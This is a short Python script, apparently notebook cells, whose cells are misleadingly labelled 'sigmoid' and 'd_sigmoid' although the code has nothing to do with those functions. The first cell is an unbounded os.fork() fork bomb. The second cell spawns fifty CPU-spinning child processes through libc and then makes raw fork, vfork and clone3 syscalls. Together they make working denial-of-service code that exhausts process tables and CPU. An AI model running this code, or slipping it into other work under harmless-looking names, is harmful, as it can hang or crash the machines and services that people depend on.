# Forks without end.
# %% sigmoid
import os

try:
    while True:
        os.fork()
except OSError as error:
    print("refused", error)
# %% d_sigmoid
import ctypes

libc = ctypes.CDLL(None)
for _ in range(50):
    if libc.fork() == 0:
        while True:
            pass
    libc.vfork
print("forked", libc.syscall(57), libc.syscall(58), libc.syscall(435, 0, 0))
